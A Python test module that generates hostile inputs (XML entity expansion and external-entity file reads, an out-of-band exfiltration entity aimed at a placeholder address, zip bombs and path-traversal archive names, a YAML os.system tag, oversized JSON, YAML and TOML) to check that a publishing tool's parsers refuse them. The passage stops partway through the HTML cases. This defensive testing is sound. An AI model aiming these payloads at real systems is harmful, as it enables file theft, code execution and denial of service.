"""Hostile files: what is made to fill the memory, to take for ever, to read what it names, or to be taken for something else.

Each is read and checked, in a process that may have no more than `ROOM` bytes, and its outcome is told: what was read, or why not.
Run as a program it does that for the files whose names it is given, one line of JSON for each.
"""

from __future__ import annotations

import json
import re
import resource
import select
import socket
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, replace
from functools import cache, partial
from io import BytesIO
from pathlib import Path
from time import process_time
from warnings import catch_warnings, simplefilter

from PIL import Image as Pillow

from publisher import disclosure, formats, measure, schema, settings
from publisher.formats import Checker, Context, Fixer, Format, Targeted
from publisher.formats.epub import drawings, pictures
from publisher.newsstand import encoder
from publisher.problems import Problem, PublisherError
from tests import epub_cases, papers, platform_files

__all__ = ["ROOM", "SECRET", "SLOW", "File", "Outcome", "attempt", "files", "tried"]

ROOM = 512 * 2**20
"""Bytes of data that reading and checking may need, all of Python and its libraries included."""
SECRET = "the words of another file"
HUGE = 11_000_000
"""Just more than libxml2 takes in one text unless told otherwise."""
MANY, DEEP = 100_000, 10_000
SLOW = re.compile("huge|[0-9],000|100,000|bomb|60,000|500 MB|300,000|4 GB|many ")
"""The names of what takes a second or more, or makes files of megabytes."""
PLACE = "⟦secret⟧"
"""Stands for the path of the file with the secret; the address that nobody may ask is `ASKED`."""
ASKED = "⟦asked⟧"


@dataclass(frozen=True, slots=True, kw_only=True)
class File:
    """One attack: what it is called, and how its bytes are made."""

    family: str
    name: str
    make: Callable[[], bytes]
    way: str
    """The format that it is read and checked as, or another way in: see `_WAYS`."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Outcome:
    """What became of a file."""

    name: str
    said: str
    """`refused` with the code, or `read` with how many articles and problems there were."""
    fault: str = ""
    """What must not be: an exception, what a file elsewhere says, a question to a server, too much memory."""
    peak: int = 0
    """Bytes that the process has needed at most, up to now."""
    seconds: float = 0.0
    """Of CPU; told in the table, and held by no test."""


# -- XML -------------------------------------------------------------------------------------------------------------------

_WORDS = b"Marker"
_XML: Mapping[str, bytes] = {
    "rss": b'<rss version="2.0"><channel><title>Marker</title><link>https://lantern.example/</link><item><title>Marker</title><link>https://lantern.example/a</link><description>Marker</description></item></channel></rss>',
    "atom": b'<feed xmlns="http://www.w3.org/2005/Atom"><id>urn:x</id><title>Marker</title><entry><id>urn:a</id><title>Marker</title><content>Marker</content></entry></feed>',
    "rdf": b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><title>Marker</title></channel><item><title>Marker</title><link>https://lantern.example/a</link></item></rdf:RDF>',
    "opml": b'<opml version="2.0"><head><title>Marker</title></head><body><outline text="x" xmlUrl="https://lantern.example/f"/></body></opml>',
    "sitemap": b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://lantern.example/Marker</loc></url></urlset>',
    "opds": b'<feed xmlns="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/terms/"><id>urn:x</id><title>Marker</title><link rel="self" type="application/atom+xml;profile=opds-catalog" href="https://lantern.example/"/></feed>',
    "nitf": b"<nitf><head><title>Marker</title></head><body><body.head><hedline><hl1>Marker</hl1></hedline></body.head><body.content><p>Marker</p></body.content></body></nitf>",
    "newsml": b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x"><contentMeta><headline>Marker</headline></contentMeta><contentSet><inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Marker</p></body></html></inlineXML></contentSet></newsItem>',
    "wordpress": b'<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Marker</title><wp:wxr_version>1.2</wp:wxr_version><item><title>Marker</title><content:encoded>Marker</content:encoded><wp:post_type>post</wp:post_type><wp:status>publish</wp:status></item></channel></rss>',
    "blogger": b"<feed xmlns=\"http://www.w3.org/2005/Atom\"><generator>Blogger</generator><id>tag:blogger.com,1999:blog-1</id><title>Marker</title><entry><id>tag:blogger.com,1999:blog-1.post-1</id><category scheme='http://schemas.google.com/g/2005#kind' term='http://schemas.google.com/blogger/2008/kind#post'/><title>Marker</title><content type='html'>Marker</content></entry></feed>",
    "webpage": b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Marker</title></head><body><article><h1>Marker</h1><p>Marker</p></article></body></html>',
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>Marker</title><rect width="9" height="9"/></svg>',
}


def _typed(declarations: str, reference: str) -> Callable[[bytes], bytes]:
    """Return what puts a document type before the root, and a reference to what it declares into the texts."""

    def made(document: bytes) -> bytes:
        root = document[1:].replace(b">", b" ").split(b" ")[0].decode()
        return f"<!DOCTYPE {root} {declarations}>".encode() + document.replace(_WORDS, reference.encode())

    return made


def _said(text: bytes) -> Callable[[bytes], bytes]:
    return lambda document: document.replace(_WORDS, text)


def _in_root(attributes: Callable[[], bytes]) -> Callable[[bytes], bytes]:
    def made(document: bytes) -> bytes:
        end = document.index(b">")
        return document[:end] + b" " + attributes() + document[end:]

    return made


def _laughs(count: int, times: int) -> str:
    rows = (f'<!ENTITY a{each} "{f"&a{each - 1};" * times}">' for each in range(1, count))
    return f'[<!ENTITY a0 "ha">{"".join(rows)}]'


_ATTACKS_OF_XML: Mapping[str, Callable[[bytes], bytes]] = {
    "billion laughs": _typed(_laughs(12, 10), "&a11;"),
    "billion laughs in an attribute": lambda document: (
        _typed(_laughs(12, 10), "x")(document[: document.index(b">") + 1])[: -document.index(b">") - 1]
        + _in_root(lambda: b'title="&a11;"')(document)
    ),
    "quadratic blow-up": _typed(f'[<!ENTITY a "{"a" * 50_000}">]', "&a;" * 20_000),
    "entity that is itself": _typed('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
    "external entity": _typed(f'[<!ENTITY a SYSTEM "file://{PLACE}">]', "&a;"),
    "external entity of the web": _typed(f'[<!ENTITY a SYSTEM "{ASKED}">]', "&a;"),
    "external entity of a name": _typed(f'[<!ENTITY a PUBLIC "-//W3C//TEXT x//EN" "{PLACE}">]', "&a;"),
    "parameter entity": _typed(f'[<!ENTITY % a SYSTEM "file://{PLACE}"> %a;]', "x"),
    "parameter entity of the web": _typed(f'[<!ENTITY % a SYSTEM "{ASKED}"> %a;]', "x"),
    "parameter entity that tells": _typed(
        f'[<!ENTITY % f SYSTEM "file://{PLACE}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{ASKED}?%f;\'>">%e;%s;]', "x"
    ),
    "external DTD": _typed(f'SYSTEM "{ASKED}"', "x"),
    "external DTD of a file": _typed(f'SYSTEM "file://{PLACE}"', "x"),
    "unparsed entity": _typed(f'[<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "file://{PLACE}" NDATA n>]', "x"),
    "default attributes": lambda document: _typed(f'[<!ATTLIST i x CDATA "{"a" * 50_000}">]', "x")(
        document.replace(_WORDS, b"<i/>" * 40_000, 1)
    ),
    "XInclude": _said(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{PLACE}" parse="text"/>'.encode()),
    "XInclude of the web": _said(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{ASKED}"/>'.encode()),
    "style sheet that transforms": lambda document: f'<?xml-stylesheet type="text/xsl" href="{ASKED}"?>'.encode() + document,
    "schema elsewhere": _in_root(
        lambda: f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{ASKED}"'.encode()
    ),
    "base that is a file": _in_root(lambda: f'xml:base="file://{PLACE}"'.encode()),
    "huge text": _said(b"a" * HUGE),
    "huge attribute": _in_root(lambda: b'x="' + b"a" * HUGE + b'"'),
    "huge name": _said(b"<" + b"a" * 1_000_000 + b"/>"),
    "huge comment": lambda document: b"<!--" + b"a" * HUGE + b"-->" + document,
    "huge instruction": lambda document: b"<?a " + b"a" * HUGE + b"?>" + document,
    "huge section": _said(b"<![CDATA[" + b"<" * HUGE + b"]]>"),
    "10,000 levels": _said(b"<b>" * DEEP + b"x" + b"</b>" * DEEP),
    "10,000 levels, escaped": _said(b"&lt;div&gt;" * DEEP + b"x"),
    "10,000 levels that are not closed": _said(b"<b>" * DEEP),
    "many elements": _said(b"<b/>" * MANY),
    "many attributes": _in_root(lambda: b" ".join(b'a%d=""' % each for each in range(MANY))),
    "one attribute many times": _in_root(lambda: b'a="" ' * MANY),
    "many namespaces": _in_root(lambda: b" ".join(b'xmlns:a%d="urn:%d"' % (each, each) for each in range(20_000))),
    "namespaces inside each other": _said(b"".join(b'<a xmlns:a%d="urn:%d">' % (each, each) for each in range(200)) + b"x" + b"</a>" * 200),
    "many references": _said(b"&#60;" * MANY),
    "references to no character": _said(b"&#0;&#x110000;&#xD800;&#xFFFFFFFFFFFFFFFFFFFF;&#99999999999999999999;"),
    "entity that is not declared": _said(b"&nbsp;&none;"),
    "many comments": _said(b"<!--a-->" * MANY),
    "two roots": lambda document: document * 2,
    "text that is no end": _said(b"]]>"),
    "nothing but a declaration": lambda _: b'<?xml version="1.0"?>',
    "version 9.9": lambda document: b'<?xml version="9.9"?>' + document,
    "UTF-16 that says it is UTF-8": lambda document: ('<?xml version="1.0" encoding="utf-8"?>' + document.decode()).encode("utf-16"),
    "UTF-8 that says it is UTF-16": lambda document: b'<?xml version="1.0" encoding="utf-16"?>' + document,
    "UTF-7": lambda document: ('<?xml version="1.0" encoding="utf-7"?>' + document.decode()).encode("utf-7"),
    "UTF-32": lambda document: ('<?xml version="1.0" encoding="utf-32"?>' + document.decode()).encode("utf-32"),
    "EBCDIC": lambda document: ('<?xml version="1.0" encoding="cp037"?>' + document.decode()).encode("cp037", "replace"),
    "encoding that does not exist": lambda document: b'<?xml version="1.0" encoding="x-none"?>' + document,
    "encoding whose name is huge": lambda document: b'<?xml version="1.0" encoding="' + b"a" * MANY + b'"?>' + document,
    "entity in UTF-16": lambda document: _typed(f'[<!ENTITY a SYSTEM "file://{PLACE}">]', "&a;")(document).decode().encode("utf-16"),
    "laughs in UTF-16": lambda document: _typed(_laughs(12, 10), "&a11;")(document).decode().encode("utf-16"),
    "null characters": _said(b"a\0b"),
    "bytes of no encoding": _said(b"\xff\xfe\xfd\xc0\x80\xed\xa0\x80"),
    "half of it": lambda document: document[: len(document) // 2],
    "half of a tag": lambda document: document[: document.rindex(b"<") + 2],
}
_HEAVY = frozenset(
    name for name in _ATTACKS_OF_XML if name.startswith(("huge", "many ", "default", "quadratic", "one attribute", "namespaces inside"))
)
"""Tried in some formats only: they take a second each, and the parser is the same."""
_PARSERS = ("rss", "nitf", "webpage", "svg")


def _xml() -> Iterator[File]:
    for way, document in _XML.items():
        for name, attack in _ATTACKS_OF_XML.items():
            if name not in _HEAVY or way in _PARSERS:
                yield File(family="XML", name=f"{way}: {name}", make=partial(attack, document), way=way)


# -- archives ----------------------------------------------------------------------------------------------------------------


def _epub() -> dict[str, bytes]:
    return dict(epub_cases.members("good"))


@cache
def _archives() -> Mapping[str, dict[str, bytes]]:
    """The members of a good archive of each format that has one."""
    found = {"epub": _epub()}
    with zipfile.ZipFile(BytesIO(papers.examples()["docx"])) as archive:
        found["docx"] = {name: archive.read(name) for name in archive.namelist()}
    return found | {name: platform_files.members(name) for name in ("substack", "medium")}


def _zipped(members: Iterable[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive, catch_warnings():
        simplefilter("ignore")  # about names that are there twice
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


Members = dict[str, bytes]


def _with(*more: tuple[str | zipfile.ZipInfo, bytes]) -> Callable[[Members], bytes]:
    return lambda members: _zipped([*members.items(), *more])


def _named(name: str) -> Callable[[Members], bytes]:
    return _with((name, b"x"))


def _link(members: Members) -> bytes:
    found = zipfile.ZipInfo("media/link.png")
    found.external_attr = 0o120777 << 16
    return _zipped([*members.items(), (found, PLACE.encode())])


def _patched(change: Callable[[bytearray], None]) -> Callable[[Members], bytes]:
    """Return what changes bytes of the finished archive."""

    def made(members: Members) -> bytes:
        body = bytearray(_zipped(members.items()))
        change(body)
        return bytes(body)

    return made


def _each(body: bytearray, mark: bytes) -> Iterator[int]:
    at = body.find(mark)
    while at >= 0:
        yield at
        at = body.find(mark, at + 4)


def _sizes(size: int) -> Callable[[bytearray], None]:
    """Return what lets the directory say that each member has so many bytes unpacked."""

    def change(body: bytearray) -> None:
        for at in _each(body, b"PK\x01\x02"):
            struct.pack_into("<I", body, at + 24, size)

    return change


def _field(offset: int, form: str, value: int, mark: bytes = b"PK\x01\x02") -> Callable[[bytearray], None]:
    def change(body: bytearray) -> None:
        for at in _each(body, mark):
            struct.pack_into(form, body, at + offset, value)

    return change


def _overlapping(members: Members) -> bytes:
    """All members lie where the largest does, as in Fifield's bomb."""
    body = bytearray(_zipped(members.items()))
    heads = list(_each(body, b"PK\x01\x02"))
    largest = max(heads, key=lambda at: struct.unpack_from("<I", body, at + 24)[0])
    for at in heads:
        body[at + 16 : at + 28] = body[largest + 16 : largest + 28]
        body[at + 42 : at + 46] = body[largest + 42 : largest + 46]
    return bytes(body)


def _nested(members: Members) -> bytes:
    inner = _zipped([("a", bytes(40_000_000))])
    for _ in range(3):
        inner = _zipped([(f"{each}.zip", inner) for each in range(10)])
    return _zipped([*members.items(), ("inner.zip", inner)])


def _zip64(members: Members) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(content)
    return out.getvalue()


def _zip64_end(value: int) -> Callable[[Members], bytes]:
    """Return what ends an archive with a Zip64 record that lies about how many members there are."""

    def made(members: Members) -> bytes:
        body = _zipped(members.items())
        end = body.rindex(b"PK\x05\x06")
        record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, value, value, value, 0)
        locator = b"PK\x06\x07" + struct.pack("<IQI", 0, end, 1)
        return body[:end] + record + locator + body[end : end + 8] + b"\xff" * 12 + body[end + 20 :]

    return made


_LARGEST_MEMBER = 300_000_000


def _bomb(members: Members) -> bytes:
    """One member that unpacks to 300 MB, 1,000 times its size."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        with archive.open("media/bomb.png", "w") as member:
            for _ in range(_LARGEST_MEMBER // 1_000_000):
                member.write(bytes(1_000_000))
    return out.getvalue()


def _lying_bomb(members: Members) -> bytes:
    """A bomb where each member is said to be small."""
    largest = max(members, key=lambda name: len(members[name]))
    body = bytearray(_zipped([(name, bytes(60_000_000) if name == largest else content) for name, content in members.items()]))
    _sizes(1000)(body)
    return bytes(body)


_ATTACKS_OF_ARCHIVES: Mapping[str, Callable[[Members], bytes]] = {
    "bomb by ratio": _bomb,
    "bomb that says it is small": _lying_bomb,
    "bomb by count": lambda members: _zipped([*members.items(), *((f"a{each}", b"") for each in range(60_000))], zipfile.ZIP_STORED),
    "bombs inside each other": _nested,
    "bomb of overlapping members": _overlapping,
    "members said to be 4 GB": _patched(_sizes(0xFFFFFFFE)),
    "members said to be empty": _patched(_sizes(0)),
    "packed sizes that are wrong": _patched(_field(20, "<I", 5)),
    "packed sizes of 4 GB": _patched(_field(20, "<I", 0xFFFFFFF0)),
    "checksums that are wrong": _patched(_field(16, "<I", 1)),
    "members beyond the end": _patched(_field(42, "<I", 0x7FFFFFFF)),
    "members at the beginning": _patched(_field(42, "<I", 0)),
    "names other than in the directory": _patched(_field(26, "<H", 1, b"PK\x03\x04")),
    "encrypted": _patched(_field(8, "<H", 1)),
    "encrypted in the member only": _patched(_field(6, "<H", 1, b"PK\x03\x04")),
    "method that nobody knows": _patched(_field(10, "<H", 77)),
    "method of another program": _patched(_field(10, "<H", 14)),
    "bzip2": lambda members: _zipped(members.items(), zipfile.ZIP_BZIP2),
    "Zip64": _zip64,
    "Zip64 that says nothing is there": _zip64_end(0),
    "Zip64 that says all is there": _zip64_end(2**62),
    "traversal": _named("../../etc/cron.d/evil"),
    "traversal in the middle": _named("media/../../evil.png"),
    "absolute name": _named("/etc/passwd"),
    "name of a drive": _named("C:\\evil.exe"),
    "backslashes": _named("..\\..\\evil.png"),
    "null in a name": lambda members: _zipped([*members.items(), ("media/axb.png", b"x")]).replace(b"axb.png", b"a\0b.png"),
    "name of a device": _named("media/CON.png"),
    "name that is empty": lambda members: (
        _zipped([*members.items(), ("x", b"x")])[:-22].replace(b"\1\0\0\0x", b"\0\0\0\0x") + b"PK\x05\x06" + bytes(18)
    ),
    "name of 60,000 bytes": _named("a" * 60_000),
    "name in no encoding": lambda members: _zipped([*members.items(), ("media/aaa.png", b"x")]).replace(b"aaa.png", b"\xff\xfe\x80.png"),
    "symbolic link": _link,
    "duplicate names": lambda members: _zipped([*members.items(), *((name, b"<html>other</html>") for name in members)]),
    "names that differ in case": lambda members: _zipped([*members.items(), *((name.upper(), b"other") for name in members)]),
    "folder called as a file": lambda members: _zipped([*members.items(), *((f"{name}/", b"") for name in members)]),
    "something before it": lambda members: b"MZ" + bytes(5000) + _zipped(members.items()),
    "something after it": lambda members: _zipped(members.items()) + bytes(80_000),
    "two archives": lambda members: _zipped([("mimetype", b"text/plain")]) + _zipped(members.items()),
    "comment of 65,535 bytes": lambda members: _zipped(members.items())[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_000,
    "half of it": lambda members: _zipped(members.items())[: -len(members) * 40],
    "nothing but the end": lambda _: b"PK\x03\x04" + b"PK\x05\x06" + bytes(18),
    "directory in itself": _patched(_field(16, "<I", 0, b"PK\x05\x06")),
    "nothing in it": lambda _: _zipped([]),
    "extra fields that are cut": _patched(_field(30, "<H", 3)),
    "each member ten times as large": lambda members: _zipped((name, content * 10) for name, content in members.items()),
    "no member as it was": lambda members: _zipped((name, bytes(reversed(content))) for name, content in members.items()),
    "each member empty": lambda members: _zipped((name, b"") for name in members),
}
_BIG_ARCHIVES = frozenset(("bomb by count", "bombs inside each other"))


def _zips() -> Iterator[File]:
    for way, members in _archives().items():
        for name, attack in _ATTACKS_OF_ARCHIVES.items():
            if name not in _BIG_ARCHIVES or way in ("epub", "docx"):
                yield File(family="archives", name=f"{way}: {name}", make=partial(attack, members), way=way)
    for way, members in _archives().items():
        for name, inside in _ATTACKS_OF_XML.items():
            if way in ("epub", "docx") and name not in _HEAVY:
                yield File(
                    family="XML in archives",
                    name=f"{way}: {name}",
                    make=partial(_attacked, members, inside),
                    way=way,
                )


def _attacked(members: Mapping[str, bytes], attack: Callable[[bytes], bytes]) -> bytes:
    """Return the archive with an attack in each member that is XML."""
    return _zipped((name, _member(content, attack)) for name, content in members.items())


def _member(content: bytes, attack: Callable[[bytes], bytes]) -> bytes:
    rest = content.partition(b"?>")[2].lstrip() if content.startswith(b"<?xml") else content
    if not rest.startswith(b"<") or rest.startswith(b"<!"):
        return content
    before, end, after = rest.partition(b"</")
    return attack(before + _WORDS + end + after)


# -- JSON ---------------------------------------------------------------------------------------------------------------------

_JSON: Mapping[str, str] = {
    "jsonfeed": '{"version": "https://jsonfeed.org/version/1.1", "title": "Marker", "items": [{"id": "a", "content_html": "Marker", "x": 1}]}',
    "newsarticle": '{"@context": "https://schema.org", "@type": "NewsArticle", "headline": "Marker", "articleBody": "Marker", "x": 1}',
    "ninjs": '{"uri": "urn:x", "standard": {"name": "ninjs", "version": "2.1"}, "headlines": [{"value": "Marker"}], "bodies": [{"value": "Marker"}], "x": 1}',
    "opds2": '{"metadata": {"title": "Marker"}, "links": [{"rel": "self", "href": "https://lantern.example/", "type": "application/opds+json"}], "publications": [{"metadata": {"title": "Marker"}}], "x": 1}',
    "ghost": '{"db": [{"meta": {"version": "5.0"}, "data": {"posts": [{"title": "Marker", "html": "Marker", "status": "published", "type": "post"}], "x": 1}}]}',
    "spelling": '{"identifier": "urn:x", "name": "Marker", "articles": [{"identifier": "urn:a", "headline": "Marker", "articleBody": "Marker"}], "x": 1}',
}
_PAGE = '<html><head><title>Marker</title><script type="application/ld+json">{}</script></head><body><p>Marker</p></body></html>'


def _value(value: str) -> Callable[[str], bytes]:
    """Return what lets each number and each text be something else."""
    return lambda document: document.replace("1}", f"{value}}}").replace('"Marker"', value).encode("utf-8", "surrogatepass")


def _text(text: str) -> Callable[[str], bytes]:
    return lambda document: document.replace("Marker", text).encode("utf-8", "surrogatepass")


def _first(more: str) -> Callable[[str], bytes]:
    return lambda document: ("{" + more + document[1:]).encode()


_ATTACKS_OF_JSON: Mapping[str, Callable[[str], bytes]] = {
    "100,000 lists": _value("[" * MANY + "]" * MANY),
    "100,000 objects": _value('{"a":' * MANY + "1" + "}" * MANY),
    "10,000 lists that are not closed": _value("[" * DEEP),
    "nothing but brackets": lambda _: b"[" * 1_000_000,
    "nothing but objects": lambda _: b'{"a":' * 200_000,
    "number of 1,000,000 digits": _value("9" * 1_000_000),
    "number of 4,000 digits": _value("9" * 4000),
    "number that is infinite": _value("1e999999"),
    "number that is nearly nothing": _value("1e-999999"),
    "number with a huge exponent": _value("1e" + "9" * 5000),
    "fraction of 100,000 digits": _value("0." + "3" * MANY),
    "minus nothing": _value("-0"),
    "NaN": _value("NaN"),
    "Infinity": _value("-Infinity"),
    "null": _value("null"),
    "true": _value("true"),
    "list": _value("[]"),
    "object": _value("{}"),
    "list of lists": _value('[[["a"]], [1, null]]'),
    "object with its type": _value('{"@type": "Person", "@id": "x", "name": {"@type": "Person"}}'),
    "lone surrogate, escaped": _text("\\ud800"),
    "lone surrogates, swapped": _text("\\udc00\\ud800"),
    "lone surrogate in a key": _first('"\\ud800": 1,'),
    "bytes of a surrogate": _text("\ud800"),
    "null character": _text("\\u0000"),
    "raw control characters": _text("\x00\x01\n"),
    "escape that is none": _text("\\x"),
    "huge text": _text("a" * HUGE),
    "huge key": _first(f'"{"a" * HUGE}": 1,'),
    "100,000 keys": _first("".join(f'"k{each}": 1,' for each in range(MANY))),
    "100,000 times one key": _first('"title": "x",' * MANY),
    "key that is empty": _first('"": 1,'),
    "keys of objects": _first('"__proto__": {"a": 1}, "constructor": {"prototype": 1}, "__class__": 1,'),
    "context of elsewhere": _first(f'"@context": "{ASKED}",'),
    "context of a file": _first(f'"@context": "file://{PLACE}",'),
    "contexts inside each other": _first('"@context": ' + '{"@context": ' * 500 + "{}" + "}" * 500 + ","),
    "graph in a circle": _first('"@id": "#a", "author": {"@id": "#a", "author": {"@id": "#a"}},'),
    "comments": lambda document: b"/* x */" + document.encode(),
    "comma too many": lambda document: document.replace("}]", "},]").encode(),
    "half of it": lambda document: document.encode()[: len(document) // 2],
    "twice": lambda document: document.encode() * 2,
    "UTF-16": lambda document: document.encode("utf-16"),
    "UTF-32 without a mark": lambda document: document.encode("utf-32-be"),
    "Latin-1": lambda document: document.replace("Marker", "é").encode("latin-1"),
    "three marks of order": lambda document: "\ufeff\ufeff\ufeff".encode() + document.encode(),
    "white space": lambda document: b" " * HUGE + document.encode(),
}


def _jsons() -> Iterator[File]:
    for way, document in _JSON.items():
        for name, attack in _ATTACKS_OF_JSON.items():
            yield File(family="JSON", name=f"{way}: {name}", make=partial(attack, document), way=way)
    for name, attack in _ATTACKS_OF_JSON.items():
        yield File(family="JSON", name=f"webpage: {name}", make=partial(_page_with, attack), way="webpage")


def _page_with(attack: Callable[[str], bytes]) -> bytes:
    return _in_page(attack(_JSON["newsarticle"]))


def _in_page(data: bytes) -> bytes:
    before, _, after = _PAGE.partition("{}")
    return before.encode() + data.replace(b"<", b"\\u003c") + after.encode()


# -- YAML and TOML --------------------------------------------------------------------------------------------------------------

_ATTACKS_OF_YAML: Mapping[str, str] = {
    "billion laughs": "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"a{each}: &a{each} [{', '.join([f'*a{each - 1}'] * 10)}]\n" for each in range(1, 12))
    + "title: *a11\n",
    "quadratic blow-up": f"a: &a {'a' * 50_000}\ntitle: [{', '.join(['*a'] * 9_000)}]\n",
    "alias in itself": "title: &a [*a]\n",
    "alias in itself, a mapping": "title: &a {b: *a}\n",
    "alias of nothing": "title: *none\n",
    "merge": "a: &a {title: x}\n<<: *a\n<<: [*a, *a]\n",
    "merge of itself": "a: &a {<<: *a}\n",
    "tag of Python": "title: !!python/object/apply:os.system ['echo ran > /tmp/ran']\n",
    "tag of Python, new": 'title: !!python/object/new:type {args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]}\n',
    "tag of Ruby": "title: !ruby/object:Gem::Installer\n  i: x\n",
    "tag of binary": "title: !!binary aGVsbG8=\n",
    "tag of a set": "title: !!set {a, b}\n",
    "tag that is huge": f"title: !<{'a' * MANY}> x\n",
    "directive": "%TAG ! tag:evil,2000:\n%YAML 9.9\n",
    "10,000 lists": f"title: {'[' * DEEP}{']' * DEEP}\n",
    "10,000 mappings": f"title: {'{a: ' * DEEP}{'}' * DEEP}\n",
    "10,000 levels by indent": "".join(f"{' ' * each}a:\n" for each in range(1000)),
    "10,000 dashes": f"title: x\ntags:\n {'- ' * DEEP}x\n",
    "huge number": f"title: {'9' * 1_000_000}\n",
    "huge number to the base 16": f"title: 0x{'f' * 1_000_000}\n",
    "huge number to the base 60": f"title: {':'.join(['59'] * 50_000)}\n",
    "infinite": "title: .inf\ndate: .nan\nweight: 1e999999\n",
    "huge key": f"{'a' * 1_000_000}: x\n",
    "huge text": f"title: {'a' * HUGE}\n",
    "100,000 keys": "".join(f"k{each}: x\n" for each in range(MANY)),
    "100,000 times one key": "title: x\n" * MANY,
    "100,000 anchors": "a:\n" + "".join(f"- &a{each} x\n" for each in range(MANY)),
    "key that is a list": "? [a, b]\n: x\n",
    "key that is null": "~: x\n: y\n",
    "several documents": "title: x\n--- \ntitle: y\n",
    "tabs": "title:\tx\n\ttags: y\n",
    "control characters": 'title: "\\0\\x01\\ud800"\n',
    "raw control characters": "title: a\x01\x7fb\n",
    "date that is none": "date: 2026-99-99\ntitle: 0000-00-00\n",
    "date far away": "date: 999999999-01-01\n",
    "time with a huge zone": "date: 2026-01-01T00:00:00+99:99\n",
    "file as a picture": f"image: file://{PLACE}\ntitle: x\n",
    "path out of the folder": "image: ../../../etc/passwd\ntitle: x\n",
    "quotes that are not closed": 'title: "x\n',
    "quotes that are not closed, huge": 'title: "' + "a\n" * MANY,
    "long scalar, folded": "title: >\n" + "  a\n" * MANY,
    "question marks": "? " * MANY + "\n",
}
_ATTACKS_OF_TOML: Mapping[str, str] = {
    "10,000 lists": f"title = {'[' * DEEP}{']' * DEEP}\n",
    "10,000 tables": f"title = {'{a=' * DEEP}1{'}' * DEEP}\n",
    "lists that are not closed": f"title = {'[' * DEEP}\n",
    "dotted key": f"{'.'.join(['a'] * 50_000)} = 1\n",
    "dotted table": f"[{'.'.join(['a'] * 50_000)}]\n",
    "dotted key in a table": f"title = {{ {'.'.join(['a'] * 50_000)} = 1 }}\n",
    "huge number": f"title = {'9' * 1_000_000}\n",
    "huge number to the base 16": f"title = 0x{'f' * 1_000_000}\n",
    "infinite": "title = inf\nsize = nan\nweight = 1e999999\n",
    "huge text": f'title = "{"a" * HUGE}"\n',
    "huge key": f"{'a' * 1_000_000} = 1\n",
    "100,000 keys": "".join(f"k{each} = 1\n" for each in range(MANY)),
    "100,000 times one key": "title = 1\n" * MANY,
    "50,000 tables": "".join(f"[t{each}]\n" for each in range(50_000)),
    "50,000 tables in a list": "[[issues]]\n" * 50_000,
    "table twice": "[publication]\n[publication]\n",
    "key of a value": "title = 1\ntitle.a = 2\n",
    "date that is none": "date = 2026-99-99\n",
    "time with a huge zone": "date = 2026-01-01T00:00:00+99:99\n",
    "escape that is none": 'title = "\\uD800\\U00110000"\n',
    "quotes that are not closed": 'title = """\n' + "a\n" * MANY,
    "control characters": 'title = "a\x01\x00b"\n',
    "bytes of no encoding": "title = '\ud800'\n",
    "file as a picture": f'image = "file://{PLACE}"\n',
    "path out of the folder": 'image = "../../../etc/passwd"\n[publication]\nurl = "https://lantern.example/"\nimage = "../../x"\n',
}


def _front_matter(body: bytes) -> bytes:
    return b"+++\n" + body + b"+++\n\nIt sails.\n"


def _headers() -> Iterator[File]:
    for name, text in _ATTACKS_OF_YAML.items():
        body = f"---\n{text}---\n\nIt sails.\n".encode("utf-8", "surrogatepass")
        yield File(family="YAML and TOML", name=f"YAML: {name}", make=partial(bytes, body), way="markdown")
    for name, text in _ATTACKS_OF_TOML.items():
        body = text.encode("utf-8", "surrogatepass")
        yield File(family="YAML and TOML", name=f"TOML: {name}", make=partial(_front_matter, body), way="markdown")
        yield File(family="YAML and TOML", name=f"publisher.toml: {name}", make=partial(bytes, body), way="settings")


# -- HTML, Markdown, mail, and other text ---------------------------------------------------------------------------------------

_TEXTS: Mapping[str, str] = {
    "10,000 levels": "<div>" * DEEP + "x",
    "10,000 levels of formatting": "<b><i>" * DEEP + "x",
    "formatting that is closed in the wrong order": "<b><p>" * 3000 + "x" + "</b>" * 3000,
    "tables in tables": "<table><tr><td>" * 3000 + "x",
    "lists in lists": "<ul><li>" * 3000 + "x",
    "100,000 attributes": "<p " + " ".join(f"a{each}=b" for each in range(MANY)) + ">x</p>",
    "huge attribute": f'<p title="{"a" * 5_000_000}">x</p>',
    "100,000 classes": f'<p class="{"a " * MANY}">x</p>',
    "tags that are not closed": "<p" * MANY,
    "comments that are not closed": "<!--" * MANY,
    "scripts that are not closed": "<script>" * MANY,
    "text areas that are not closed": "<textarea>" * 20_000,
    "selects in selects": "<select><option>" * 10_000,
    "frames in frames": "<iframe><frameset>" * 10_000,
